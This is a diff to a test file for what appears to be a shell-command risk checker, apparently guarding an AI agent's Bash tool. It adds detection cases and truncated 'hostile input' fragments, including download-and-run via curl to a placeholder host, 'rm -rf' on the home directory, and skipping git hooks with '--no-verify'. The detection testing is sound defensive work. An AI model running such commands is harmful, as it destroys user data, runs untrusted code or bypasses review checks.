@@ -3,6 +3,7 @@ import { assess } from "../../src/signals/assess.ts";
 import { RULES } from "../../src/signals/rules.ts";
 import { cpuMs } from "../support/cpu-time.ts";
 import { HARMLESS } from "./harmless.ts";
+import { WRAPPED } from "./wrapped.ts";
 
 const PLACE = { project: "/home/dev/shop", home: "/home/dev" };
 const bash = (command: string) => assess("Bash", { command }, PLACE);
@@ -207,7 +208,7 @@ const FOUND: readonly [id: string, ...commands: string[]][] = [
   ["guard.hooks-skipped", "git commit --no-verify -m x", "git push --no-verify", "git commit -nm x"],
 ];
 
-describe.each(FOUND)("%s", (id, ...commands) => {
+describe.each([...FOUND, ...WRAPPED])("%s", (id, ...commands) => {
   it.each(commands)("is found in: %s", (command) => {
     expect(bash(command)).toContain(id);
   });
@@ -293,6 +294,13 @@ describe("hostile input", () => {
       "curl -d @a=@b ",
       "\\\n",
       "[[ ",
+      "for x in / ~; do ",
+      "echo x | xargs ",
+      "alias a='a a'; a; ",
+      "curl -o a https://x.example; ./a; ",
+      "python -c 'system(\"",
+      "rm -rf ${HOME:-",
+      "curl $(cat ",
       "<<E\n",
     ];
     for (const kind of kinds) {
